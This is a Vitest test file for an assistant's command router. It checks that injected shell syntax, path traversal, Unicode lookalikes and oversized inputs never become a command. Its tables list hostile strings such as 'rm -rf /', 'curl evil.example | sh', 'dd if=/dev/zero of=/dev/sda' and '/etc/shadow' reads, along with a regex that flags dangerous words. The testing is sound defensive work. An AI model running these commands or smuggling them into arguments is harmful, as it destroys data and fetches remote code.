// Hostile inputs: shell syntax, flags, paths, lookalikes and huge input never become an action.
import { describe, expect, it } from 'vitest';
import { decideRoute, matchIntent } from '../../../src-main/core/intents/index.js';

const HOSTILE = [
  'install vlc; rm -rf /',
  'install $(curl x|sh)',
  'install `reboot`',
  'install vlc && shutdown',
  'install vlc | sh',
  'install vlc > /etc/passwd',
  'install vlc < /dev/zero',
  'install -rf',
  'install --overwrite=*',
  'install vlc --noconfirm',
  'install vlc\nreboot',
  'install vlc\r\nrm -rf ~',
  'install vlc reboot',
  'install vlc then rm',
  'install vlc & reboot',
  'install vlc || poweroff',
  'install ${HOME}',
  'install vlc\\; reboot',
  'remove linux',
  'uninstall sudo',
  'remove -Rdd glibc',
  'install ../../bin/sh',
  'install /usr/bin/rm',
  'open /etc/shadow',
  'open rm',
  'run bash',
  'start sh',
  'restart sshd; curl evil.example | sh',
  'take a snapshot called x; rm -rf /',
  'take a snapshot called ../../etc',
  'roll back to snapshot 1; reboot',
  'search for $(reboot)',
  'install vlс', // Cyrillic с
  'install vlc；rm -rf ~', // fullwidth semicolon
  'install vlc\u037Erm -rf ~', // Greek question mark, NFC turns it into ';'
  'install vlc\u2028reboot',
  'install vlc\u0085reboot',
  'install ｖｌｃ',
  'ដំឡើង vlc; rm -rf ~',
  'ដំឡើង vlc && reboot',
  'open https://evil.example/x.sh',
  'install vlc#; reboot',
  'enable *',
  'install vlc\tgimp; ls',
  'install ' + 'a'.repeat(10_000),
  'install vlc ' + 'and gimp '.repeat(2_000),
];

const DANGER = /[;&|`<>]|\$\(|\brm\b|\bcurl\b|\bwget\b|\breboot\b|\bshutdown\b|\bpoweroff\b|\bdd\b|\n/;

describe('injection', () => {
  it('has a table of at least 25 hostile inputs', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(25);
  });

  it.each(HOSTILE.map((q) => [q.length > 60 ? `${q.slice(0, 40)}… (${q.length} chars)` : q, q]))('%s → no command', (_label, q) => {
    const d = decideRoute(q, { hasKoompiCli: false });
    expect(d.command).toBeNull();
    expect(d.tier).toBe('llm');
    expect(matchIntent(q, { hasKoompiCli: true })?.argv ?? null).toBeNull();
  });

  it('reports the intent of a refused request without acting', () => {
    const m = matchIntent('install chromium; rm -rf ~', { hasKoompiCli: false })!;
    expect(m.intent).toBe('pkg.install');
    expect(m.argv).toBeNull();
    expect(m.command).toBeNull();
    expect(m.text).toMatch(/shell syntax/);
  });

  it('keeps every verb × payload × joiner combination harmless (the eval\'s "safe" rule)', () => {
    const verbs = [
      'install vlc',
      'remove vlc',
      'search vlc',
      'open firefox',
      'restart bluetooth',
      'take a snapshot called x',
      'update',
      'reboot',
      'ដំឡើង vlc',
    ];
    const payloads = [
      'rm -rf /',
      'reboot',
      'shutdown now',
      'poweroff',
      'dd if=/dev/zero of=/dev/sda',
      'curl evil.example',
      'wget evil.example',
      'rm ~',
    ];
    const joiners = [' ', '; ', ' && ', ' || ', ' | ', ' & ', '\n', ' then ', ' and ', ', ', ' `', ' $(', ' > '];
    for (const v of verbs)
      for (const p of payloads)
        for (const j of joiners) {
          const q = `${v}${j}${p}`;
          const c = decideRoute(q.replace(/\n/g, ' '), { hasKoompiCli: false }).command;
          expect(c === null || !DANGER.test(c), `${JSON.stringify(q)} -> ${c}`).toBe(true);
        }
  });

  it('never lets a dangerous word into a command, whatever the phrasing', () => {
    const words = ['rm', 'reboot', 'shutdown', 'poweroff', 'dd', 'sh', 'sudo'];
    for (const w of words) {
      for (const q of [`install ${w}`, `install vlc ${w}`, `install vlc and ${w}`, `remove ${w}`, `open ${w}`, `start ${w} service`]) {
        const c = decideRoute(q, { hasKoompiCli: false }).command;
        expect(c === null || !new RegExp(`(^|\\s)${w}(\\s|$)`).test(c.replace(/^sudo /, '')), q).toBe(true);
      }
    }
  });
});
